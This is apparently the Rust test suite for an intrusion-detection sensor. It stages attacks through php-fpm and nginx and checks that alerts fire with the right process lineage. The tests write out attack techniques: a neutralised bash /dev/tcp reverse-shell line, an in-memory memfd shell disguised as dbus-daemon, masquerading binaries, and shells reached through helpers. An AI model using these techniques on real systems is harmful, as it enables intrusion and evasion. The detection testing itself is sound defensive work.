//! Attacks through php-fpm and nginx, each on each rung: who is named, with which argv,
//! in which place, known how.

mod catalogue;
mod outlive;
mod root;
mod sequence;

use std::{
    ffi::OsStr,
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    time::Duration,
};

use crate::fixture::{
    alert::{Alert, Link, link},
    nginx::{self, Nginx},
    php_fpm::{Pool, Start},
    scene::{self, Case, Scene, tool},
    sensor::Sensor,
    site::{self, Site},
};

/// A sensor, then a site: everything will have been observed.
fn observed(scene: &Scene, case: Case) -> (Sensor, Site) {
    let sensor = Sensor::start(case.rung);
    (sensor, Site::start(scene, Start::Foreground, Pool::Steady))
}

/// The shell of this argv under any rule that looks for shells.
#[track_caller]
fn shell_alert(sensor: &mut Sensor, args: &[&str]) -> Alert {
    sensor.alert("shell_under_app_worker", |alert| alert.args() == args)
}

fn with_python() -> Vec<scene::Need> {
    [site::NEEDS, &[scene::python as _]].concat()
}

/// The page that runs `id`, for servers started after the sensor.
fn a_page_runs_id(case: Case) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let visit = site.shell("shop/gallery/id.php", "id");
    assert!(visit.output.contains("(www-data)"), "{visit:?}");

    let sh = link(tool("sh"), &["sh", "-c", "id"])
        .part("descendant")
        .chain(&[tool("sh")]);
    let shell = shell_alert(&mut sensor, &["sh", "-c", "id"]);
    shell.assert_lineage(&[site.master(), site.worker(visit.worker), sh.clone()]);
    assert_eq!(shell.service(), "php-fpm");
    assert_eq!(
        Path::new(shell.working_directory()),
        site.root().join("shop/gallery")
    );
    assert_eq!(
        shell.json["process"]["user"]["id"],
        scene::www_data().0.to_string(),
        "{shell}"
    );

    // dash may run its last command in its own place.
    let recon = sensor.alert("recon_tool_under_service", |alert| {
        alert.concerns(visit.worker) && alert.args() == ["id"]
    });
    let id = link(tool("id"), &["id"]).part("descendant");
    let mut expected = vec![site.master(), site.worker(visit.worker)];
    if recon.pid() == shell.pid() {
        expected.push(id.chain(&[tool("sh"), tool("id")]));
    } else {
        expected.extend([sh.pid(shell.pid()), id.chain(&[tool("id")])]);
    }
    recon.assert_lineage(&expected);
    assert_eq!(recon.service(), "php-fpm");
    assert_eq!(
        Path::new(recon.working_directory()),
        site.root().join("shop/gallery")
    );
    for alert in sensor.stop() {
        assert_eq!(alert.lineage()[0].pid(), site.php.master().pid, "{alert}");
    }
}

/// A program started without a shell: the worker itself forked it.
fn a_page_runs_a_program_without_a_shell(case: Case) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let visit = site.spawn("tools/whoami.php", &[b"whoami"]);
    let alert = sensor.alert("recon_tool_under_service", |alert| {
        alert.concerns(visit.worker) && alert.args() == ["whoami"]
    });
    let whoami = link(tool("whoami"), &["whoami"])
        .pid(visit.spawned())
        .chain(&[tool("whoami")]);
    alert.assert_lineage(&[
        site.master(),
        site.worker(visit.worker),
        whoami.part("descendant"),
    ]);
    assert_eq!(
        Path::new(alert.working_directory()),
        site.root().join("tools")
    );
    sensor.stop();
}

/// The worker's grandchild, whose parents are gone, becomes a shell two seconds later.
fn an_orphan_is_still_the_servers(case: Case) {
    const ORPHAN: &str = "
import os, sys, time
ledger = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_APPEND)
def note():
    os.write(ledger, b'%d\\n' % os.getpid())
note()
if os.fork(): os._exit(0)
os.setsid()
note()
if os.fork(): os._exit(0)
note()
time.sleep(2)
os.execv('/bin/sh', ['sh', '-c', ': orphan'])
";
    let Some(scene) = Scene::begin(case.name, &with_python()) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let script = scene.file("orphan.py", ORPHAN).display().to_string();
    let ledger = scene.writable("ledger").join("pids").display().to_string();
    let python = tool("python3").display().to_string();
    let argv = [python.as_str(), "-I", &script, &ledger];
    let visit = site.spawn("orphan.php", &argv.map(str::as_bytes));

    let alert = shell_alert(&mut sensor, &["sh", "-c", ": orphan"]);
    let pids = fs::read_to_string(&ledger).expect("read the ledger");
    let pids: Vec<u32> = pids
        .lines()
        .map(|pid| pid.parse().expect("a pid"))
        .collect();
    let [first, second, orphan] = pids[..] else {
        panic!("{pids:?}")
    };
    assert_eq!(first, visit.spawned());
    let forked = link(&python, &argv).part("descendant");
    alert.assert_lineage(&[
        site.master(),
        site.worker(visit.worker),
        forked.clone().pid(first).chain(&[&python]),
        forked.pid(second).forked(),
        link(tool("sh"), &["sh", "-c", ": orphan"])
            .pid(orphan)
            .part("descendant"),
    ]);
    assert_eq!(alert.service(), "php-fpm");
    for (place, relative) in alert.json["lineage"]
        .as_array()
        .into_iter()
        .flatten()
        .enumerate()
    {
        assert_eq!(
            relative.get("exit").is_some(),
            [2, 3].contains(&place),
            "{alert}"
        );
    }
    let guardian = &alert.json["process"]["adopted_by"]["pid"];
    assert!(
        guardian.is_u64() && *guardian != second,
        "{alert}: {guardian}"
    );
    sensor.stop();
}

/// Shells that are reached through other programs, in place or by another fork.
fn a_shell_through_a_helper_is_seen(case: Case) {
    let Some(scene) = Scene::begin(case.name, &with_python()) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let python = tool("python3");
    let system = "import os; os.system(': through-python')";
    let become_shell = "import os; os.execlp('sh', 'sh', '-c', ': through-exec')";
    let python_name = python.to_str().expect("a Debian path is UTF-8");
    for (name, argv) in [
        (
            "env",
            ["env", "A=1", "sh", "-c", ": through-env"].as_slice(),
        ),
        ("nohup", &["nohup", "sh", "-c", ": through-nohup"]),
        ("setsid", &["setsid", "sh", "-c", ": through-setsid"]),
        ("exec", &[python_name, "-Ic", become_shell]),
        ("python", &[python_name, "-Ic", system]),
        (
            "find",
            &[
                "find",
                "/",
                "-maxdepth",
                "0",
                "-exec",
                "sh",
                "-c",
                ": through-find",
                ";",
            ],
        ),
        (
            "timeout",
            &["timeout", "5", "sh", "-c", ": through-timeout"],
        ),
    ] {
        let bytes: Vec<&[u8]> = argv.iter().map(|arg| arg.as_bytes()).collect();
        let visit = site.spawn(&format!("{name}.php"), &bytes);
        let line = format!(": through-{name}");
        let args = ["sh", "-c", &line];
        let alert = shell_alert(&mut sensor, &args);
        let helper = tool(
            Path::new(argv[0])
                .file_name()
                .and_then(|name| name.to_str())
                .expect("a name"),
        );
        let shell = link(tool("sh"), &args).part("descendant");
        let mut expected = vec![site.master(), site.worker(visit.worker)];
        if ["python", "find", "timeout"].contains(&name) {
            expected.push(link(&helper, argv).pid(visit.spawned()).chain(&[helper]));
            expected.push(shell.chain(&[tool("sh")]));
        } else {
            expected.push(shell.pid(visit.spawned()).chain(&[helper, tool("sh")]));
        }
        alert.assert_lineage(&expected);
    }
    sensor.stop();
}

/// A copy of the shell under a server's name.
fn a_shell_named_nginx_is_a_masquerade(case: Case) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let copy = dropped_copy(&scene, "sh", "nginx");
    let name = copy.to_str().expect("a temporary path is UTF-8");
    let args = [name, "-c", ": dressed"];
    let visit = site.spawn("dressed.php", &args.map(str::as_bytes));
    let expected = [
        site.master(),
        site.worker(visit.worker),
        link(&copy, &args).pid(visit.spawned()).chain(&[&copy]),
    ];
    for rule in [
        "masqueraded_server",
        "masqueraded_shell",
        "exec_from_writable_directory",
    ] {
        let alert = sensor.alert(rule, |alert| alert.args() == args);
        alert.assert_lineage(&expected);
        assert_eq!(alert.service(), "php-fpm");
    }
    sensor.stop();
}

/// The dynamic loader told to run a shell: the shell itself is never exec'ed.
fn a_shell_run_by_the_loader_is_a_masquerade(case: Case) {
    let Some(scene) = Scene::begin(case.name, &[site::NEEDS, &[loader as _]].concat()) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let loader = loader().expect("it was there");
    let args = [
        loader.to_str().expect("a Debian path is UTF-8"),
        "/bin/sh",
        "-c",
        ": loaded",
    ];
    let visit = site.spawn("loaded.php", &args.map(str::as_bytes));
    let alert = sensor.alert("loader_started_shell", |alert| alert.args() == args);
    alert.assert_lineage(&[
        site.master(),
        site.worker(visit.worker),
        link(&loader, &args).pid(visit.spawned()).chain(&[&loader]),
    ]);
    sensor.stop();
}

fn loader() -> Result<PathBuf, String> {
    let path = Path::new("/lib64/ld-linux-x86-64.so.2");
    path.canonicalize()
        .map_err(|error| format!("{}: {error}", path.display()))
}

/// A shell that is in memory only, by path and by descriptor.
fn a_shell_from_memory_is_seen(case: Case) {
    const MEMORY: &str = "
import os, sys
shell = os.memfd_create('dbus', 0)
with open('/bin/sh', 'rb') as file: os.write(shell, file.read())
how = f'/proc/self/fd/{shell}' if sys.argv[1] == 'path' else shell
os.execve(how, ['dbus-daemon', '-c', ': memory-' + sys.argv[1]], {})
";
    let Some(scene) = Scene::begin(case.name, &with_python()) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let script = scene.file("memory.py", MEMORY);
    let python = tool("python3");
    for how in ["path", "descriptor"] {
        let command = [
            python.as_os_str(),
            "-I".as_ref(),
            script.as_os_str(),
            how.as_ref(),
        ];
        let visit = site.spawn(&format!("{how}.php"), &command.map(OsStr::as_encoded_bytes));
        let line = format!(": memory-{how}");
        let args = ["dbus-daemon", "-c", &line];
        let alert = sensor.alert("memory_only_execution", |alert| alert.args() == args);
        let shell = link("memfd:dbus", &args).pid(visit.spawned());
        let shell = shell.chain(&[python.as_path(), Path::new("memfd:dbus")]);
        alert.assert_lineage(&[site.master(), site.worker(visit.worker), shell]);
        assert_eq!(alert.json["process"]["file"]["unlinked"], true, "{alert}");
    }
    sensor.stop();
}

/// A program from a directory that the server's user may write to.
fn a_program_from_a_writable_directory_is_seen(case: Case) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let copy = dropped_copy(&scene, "true", "update");
    let name = copy.to_str().expect("a temporary path is UTF-8");
    let visit = site.spawn("update.php", &[name.as_bytes(), b"--now"]);
    let alert = sensor.alert("exec_from_writable_directory", |alert| {
        alert.pid() == visit.spawned()
    });
    alert.assert_lineage(&[
        site.master(),
        site.worker(visit.worker),
        link(&copy, &[name, "--now"]).chain(&[&copy]),
    ]);
    sensor.stop();
}

/// What a shell is told to do, and a tool that moves data, raise the level.
fn hostile_commands_and_network_tools_are_told_apart(case: Case) {
    let Some(scene) = Scene::begin(case.name, &[site::NEEDS, &[curl as _]].concat()) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    // A quoted word after `:` does nothing.
    let line = ": 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'";
    let visit = site.shell("reverse.php", line);
    let alert = sensor.alert("hostile_shell_command", |alert| {
        alert.args() == ["sh", "-c", line]
    });
    assert_eq!(alert.level(), "critical", "{alert}");
    let sh = link(tool("sh"), &["sh", "-c", line]);
    alert.assert_lineage(&[site.master(), site.worker(visit.worker), sh]);

    let visit = site.spawn("fetch.php", &[b"curl", b"--version"]);
    let alert = sensor.alert("network_tool_under_service", |alert| {
        alert.pid() == visit.spawned()
    });
    assert_eq!(alert.level(), "high", "{alert}");
    let curl = link(tool("curl"), &["curl", "--version"]);
    alert.assert_lineage(&[site.master(), site.worker(visit.worker), curl]);
    sensor.stop();
}

fn curl() -> Result<PathBuf, String> {
    scene::program("curl")
}

/// A back door in nginx itself: a foreign library makes a worker run a shell.
fn an_edge_servers_worker_runs_a_program(case: Case) {
    let Some(scene) = Scene::begin(case.name, &[nginx::program, scene::compiler]) else {
        return;
    };
    let mut sensor = Sensor::start(case.rung);
    let nginx = Nginx::start_with_back_door(&scene);
    let alert = sensor.alert("edge_server_executed_program", |alert| {
        alert.args() == ["sh", "-c", ": rogue"]
    });
    let lineage = alert.lineage();
    let worker = lineage.get(2).map(|worker| worker.pid());
    assert!(
        nginx
            .workers()
            .iter()
            .any(|process| Some(process.pid) == worker),
        "{alert}"
    );
    let image = || -> Link { link(tool("nginx"), &nginx.argv) };
    alert.assert_lineage(&[
        image().part("master").chain(&[tool("nginx")]),
        // Its part is settled only when the program that forked it has ended.
        image().pid(nginx.master().pid).forked(),
        image().part("worker").forked(),
        link(tool("sh"), &["sh", "-c", ": rogue"]).part("descendant"),
    ]);
    assert_eq!(alert.service(), "nginx");
    sensor.stop();
}

/// A copy of a program where an upload could have put it.
fn dropped_copy(scene: &Scene, program: &str, name: &str) -> PathBuf {
    let copy = scene.writable("drop").join(name);
    fs::copy(tool(program), &copy).expect("copy a program");
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("make it executable");
    scene::give_to_www_data(&copy);
    copy
}

/// From the request to the line, at the sensor's end: the gate is on the median, since a
/// busy machine may delay any single one.
fn an_alert_is_there_in_a_tenth_of_a_second(case: Case) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let (mut sensor, site) = observed(&scene, case);
    let mut delays: Vec<Duration> = (0..15)
        .map(|number| {
            let line = format!("id; : request-{number}");
            let visit = site.shell(&format!("request-{number}.php"), &line);
            let alert = shell_alert(&mut sensor, &["sh", "-c", &line]);
            alert.at.saturating_duration_since(visit.sent)
        })
        .collect();
    delays.sort();
    let (median, longest) = (delays[delays.len() / 2], delays[delays.len() - 1]);
    scene::note(
        case.name,
        &format!("request to alert: median {median:.1?}, longest {longest:.1?}"),
    );
    assert!(median < Duration::from_millis(100), "{delays:?}");
    assert!(longest < Duration::from_secs(1), "{delays:?}");
    sensor.stop();
}

on_each_rung!(
    a_page_runs_id,
    a_page_runs_a_program_without_a_shell,
    an_orphan_is_still_the_servers,
    a_shell_through_a_helper_is_seen,
    a_shell_named_nginx_is_a_masquerade,
    a_shell_run_by_the_loader_is_a_masquerade,
    a_shell_from_memory_is_seen,
    a_program_from_a_writable_directory_is_seen,
    hostile_commands_and_network_tools_are_told_apart,
    an_edge_servers_worker_runs_a_program,
    an_alert_is_there_in_a_tenth_of_a_second,
);
